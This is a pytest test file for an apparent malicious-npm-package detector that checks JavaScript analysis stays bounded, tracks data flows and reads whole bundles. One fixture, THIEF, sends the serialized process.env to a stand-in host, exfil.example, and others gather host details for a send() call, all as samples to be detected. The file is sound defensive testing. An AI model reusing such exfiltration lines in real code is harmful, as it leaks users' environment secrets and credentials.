"""What could run for ever is cut off, and the rest of the unit is still read."""

import gc
import time

import pytest

from packamal.detectors.facts import Facts
from packamal.detectors.javascript import read
from packamal.detectors.javascript.finish import MAX_REACH
from packamal.detectors.javascript.nodes import Call
from packamal.detectors.units import Language, Unit
from packamal.model import Role

WAYS = "".join(f"  if (rule{n}(kind)) {{ text += pad('x') + {n}; return walk('{n}'); }}\n" for n in range(8))
DOUBLING = f"function walk(kind) {{\n  let text = 'a';\n{WAYS}  return text;\n}}\nwalk('s'); probe('after');\n"
CPU_S = 6.0
"""Ordinary machines take less than a second; without a limit it never ends."""


def facts_of(source: str) -> Facts:
    unit = Unit("index.js", "index.js", source.encode(), Language.JAVASCRIPT, Role.IMPORT)
    return read([unit], {unit.path: unit})


def test_a_function_that_calls_itself_in_every_branch_ends_soon() -> None:
    before = time.process_time()
    facts = facts_of(DOUBLING)
    assert time.process_time() - before < CPU_S
    assert any(call.callee == "probe" for call in facts.calls)


def test_a_loop_that_decodes_nothing_ends_soon() -> None:
    before = time.process_time()
    facts = facts_of("let sum = 0;\nfor (let i = 0; i < 1000000; i++) { sum += i % 7; }\nprobe('after');\n")
    assert time.process_time() - before < CPU_S / 12
    assert any(call.callee == "probe" for call in facts.calls)


def test_alternatives_in_alternatives_are_shown_in_part() -> None:
    lines = ["const v0 = ask() ? process.env.HOME : 'x';"]
    for level in range(1, 5):
        fields = ", ".join(f"k{at}: v{level - 1}" for at in range(20))
        lines.append(f"const v{level} = ask() ? {{a: 1, {fields}}} : {{b: 2, {fields}}};")
    before = time.process_time()
    facts = facts_of("\n".join([*lines, "probe(v4);"]))
    assert time.process_time() - before < CPU_S / 6
    [probe] = [call for call in facts.calls if call.callee == "probe"]
    [use] = [use for use in facts.uses if use.name == "process.env.HOME"]
    assert use.id in probe.args[0].sources


def test_a_fact_that_reaches_everything_says_nothing_where_it_is_one_of_many() -> None:
    gather = "const os = require('os'); let t = os.hostname() + os.arch() + os.type() + os.platform() + os.homedir();"
    calls = "".join(f"use{n}(t);" for n in range(MAX_REACH + 1))
    facts = facts_of(f"{gather} {calls} last(t); alone(os.hostname());")
    names = {call.id: call.callee for call in facts.calls}
    flows = {(names[flow.source], names[flow.sink]) for flow in facts.flows if flow.source in names}
    assert ("os.hostname", "alone") in flows
    assert ("os.hostname", "last") not in flows


def test_few_flows_are_kept_whole() -> None:
    facts = facts_of(
        "const os = require('os'); send(os.hostname() + os.arch() + os.type() + os.platform() + os.homedir())"
    )
    names = {call.id: call.callee for call in facts.calls}
    assert {names[flow.source] for flow in facts.flows if flow.source in names} >= {"os.hostname", "os.homedir"}


def test_a_member_that_takes_too_long_to_parse_is_a_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("packamal.detectors.javascript.parse.MAX_PARSE_S", 0.0)
    facts = facts_of("f(1);\n" * 50_000)
    assert facts.failures == [("index.js", "not parsed: too much time")]


def trees() -> int:
    return sum(type(kept) is Call for kept in gc.get_objects())


def test_trees_go_without_the_collector() -> None:
    gc.collect()
    gc.disable()
    try:
        before = trees()
        facts_of(
            "const list = [() => probe(list)];\nfunction outer() { return inner; function inner() { outer(); } }\n"
        )
        assert trees() == before
    finally:
        gc.enable()


LIBRARY = "".join(f"function part{n}(a, b) {{ mark{n}(a); return a + b * {n}; }}\n" for n in range(6_000))
THIEF = "function late() { require('https').request('https://exfil.example/' + JSON.stringify(process.env)); }\n"


def callees(source: str, role: Role = Role.IMPORT) -> set[str]:
    unit = Unit("index.js", "index.js", source.encode(), Language.JAVASCRIPT, role)
    return {call.callee for call in read([unit], {unit.path: unit}).calls}


@pytest.mark.parametrize("where", [0, len(LIBRARY) // 2, len(LIBRARY)])
def test_what_harms_in_a_bundle_is_seen_wherever_it_stands_though_nothing_calls_it(where: int) -> None:
    cut = LIBRARY.find("\n", max(where - 1, 0)) + 1 if where else 0
    found = callees(LIBRARY[:cut] + THIEF + LIBRARY[cut:])
    assert "https.request" in found
    assert "mark5" not in found


def test_what_the_top_level_of_a_bundle_calls_is_read_all_the_same() -> None:
    found = callees(LIBRARY + "part7(1, 2);\n")
    assert "mark7" in found
    assert "mark8" not in found


@pytest.mark.parametrize(("start", "role"), [("", Role.INSTALL), ("var _0x12ab = 1;" * 12, Role.IMPORT)])
def test_every_function_is_read_of_a_bundle_that_runs_by_itself_or_hides_its_names(start: str, role: Role) -> None:
    assert "mark5999" in callees(start + LIBRARY, role)
